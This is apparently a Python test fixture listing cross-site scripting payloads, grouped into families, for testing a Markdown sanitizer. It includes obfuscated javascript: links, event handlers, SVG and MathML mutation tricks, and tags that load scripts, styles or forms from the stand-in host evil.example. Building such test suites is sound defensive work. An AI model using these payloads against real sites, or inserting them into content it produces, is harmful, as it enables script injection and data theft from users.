"""What a hostile editor might write into a body: fourteen families, several variants each.

Where a variant gets through, the page sets globalThis.attacked, asks evil.example for something,
gets another base address, or has the style --attacked. Each was seen to do so on a page that is
neither cleaned nor has a policy, unless it stands in UNSURE.
"""

from __future__ import annotations

RUN = "void(attacked=1)"
EVIL = "https://evil.example"

ATTACKS: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{RUN}</script>",
        f"<ScRiPt type=module>globalThis.{RUN}</sCrIpT>",
        f"Words <script>{RUN}</script> in a line.",
        f'<script src="{EVIL}/x.js"></script>',
        f"- a list\n\n    <script>{RUN}</script>",
        f"> <script>{RUN}</script>",
        f"<p>\n<script>{RUN}</script>\n</p>",
        f"!!! note\n    <script>{RUN}</script>",
        f"| a |\n|---|\n| <script>{RUN}</script> |",
        f"Note.[^1]\n\n[^1]: <script>{RUN}</script>",
        f"<details><summary>x</summary><script>{RUN}</script></details>",
    ),
    "iframe": (
        f'<iframe src="{EVIL}/"></iframe>',
        f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
        f'<iframe src="javascript:parent.{RUN}"></iframe>',
        f'Words <IFRAME SRC="{EVIL}/"></IFRAME>',
    ),
    "form": (
        f'<form action="{EVIL}/" data-submits><input name=x></form>',
        f'<form data-submits><button formaction="{EVIL}/">Go</button></form>',
        f'<form action="javascript:{RUN}" data-submits><button>Go</button></form>',
    ),
    "style": (
        "<style>:root{--attacked:1}</style>",
        f"<style>@import url({EVIL}/x.css);</style>",
        f'<link rel=stylesheet href="{EVIL}/x.css">',
        f'<p style="background:url({EVIL}/x.png)">x</p>',
        f'Words\n{{style="background:url({EVIL}/x.png)"}}',
    ),
    "base": (f'<base href="{EVIL}/">', f'Words <base href="{EVIL}/"> more'),
    "object": (
        f'<object data="{EVIL}/x.pdf"></object>',
        f'<embed src="{EVIL}/x.pdf">',
        f'<object data="data:text/html,<script>parent.{RUN}</script>"></object>',
    ),
    "meta and link": (
        f'<meta http-equiv=refresh content="0; url={EVIL}/">',
        f'<link rel=prefetch href="{EVIL}/x">',
    ),
    "event": (
        f'<img src="none.png" onerror="{RUN}" alt="x">',
        f'<b onmouseover="{RUN}">x</b>',
        f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
        f'<p><a href="#x" onclick="{RUN}">x</a></p>',
        f"<video><source onerror={RUN}></video>",
        f'<input autofocus onfocus="{RUN}">',
        f"<b/onclick={RUN}>x</b>",
        f'<img src="none.png"\nonerror="{RUN}" alt="x">',
    ),
    "attribute list": (
        f'Words\n{{: onclick="{RUN}" }}',
        f'## Heading {{onclick="{RUN}"}}',
        f'*words*{{onmouseover="{RUN}"}}',
        f'[words](#x){{ .a onclick="{RUN}" #b }}',
        f'![words](none.png){{ onerror="{RUN}" }}',
        f'- entry\n{{: onclick="{RUN}" }}',
        f"`code`{{onclick={RUN}}}",
        f'| a {{onclick="{RUN}"}} |\n|---|\n| b |',
        f'[words](#x){{ href="javascript:{RUN}" }}',
    ),
    "script address": (
        f"[words](javascript:{RUN})",
        f"[words](JaVaScRiPt:{RUN})",
        f"[words](<javascript:{RUN}>)",
        f'[words](javascript:{RUN} "a title")',
        f"[words][ref]\n\n[ref]: javascript:{RUN}",
        f"[ref]\n\n[ref]: <javascript:{RUN}> 'x'",
        f"<javascript:{RUN}>",
        f"## [words](javascript:{RUN})",
        f"[![x](none.png)](javascript:{RUN})",
        f'<a href="javascript:{RUN}">x</a>',
        f"[words](data:text/html,<script>{RUN}</script>)",
        f"[words](vbscript:{RUN})",
    ),
    "entities": (
        f"[words](java&#115;cript:{RUN})",
        f"[words](&#x6A;avascript:{RUN})",
        f"[words](javascript&colon;{RUN})",
        f"[words](&#0000106;avascript:{RUN})",
        f"[words][ref]\n\n[ref]: java&#x73;cript&#58;{RUN}",
        f'<a href="&#106;&#97;vascript:{RUN}">x</a>',
        f"[words](java&Tab;script:{RUN})",
    ),
    "breaks": (
        f"[words](java\nscript:{RUN})",
        f"[words]( javascript:{RUN})",
        f"[words](java&#10;script:{RUN})",
        f"[words](&#1;javascript:{RUN})",
        f'<a href="java\nscript:{RUN}">x</a>',
        f'<a href=" javascript:{RUN}">x</a>',
    ),
    "drawing": (
        f"<svg><script>{RUN}</script></svg>",
        f'<svg onload="{RUN}"></svg>',
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
        f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
        f'<math><a xlink:href="javascript:{RUN}">x</a></math>',
        "<svg><style>:root{--attacked:1}</style></svg>",
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
        f'<noscript><p title="</noscript><img src=none.png onerror={RUN}>">',
    ),
    "remote image": (
        f"![x]({EVIL}/x.png)",
        f"![x](//{EVIL.removeprefix('https://')}/x.png)",
        f"![x][ref]\n\n[ref]: {EVIL}/x.png",
        f'<img src="{EVIL}/x.png" alt="x">',
        f'![x](none.png){{ srcset="{EVIL}/x.png 1x" }}',
        f'<video poster="{EVIL}/x.png"></video>',
        f"![x](&#104;ttps://{EVIL.removeprefix('https://')}/x.png)",
        f"[![x]({EVIL}/x.png)](index.md)",
    ),
}
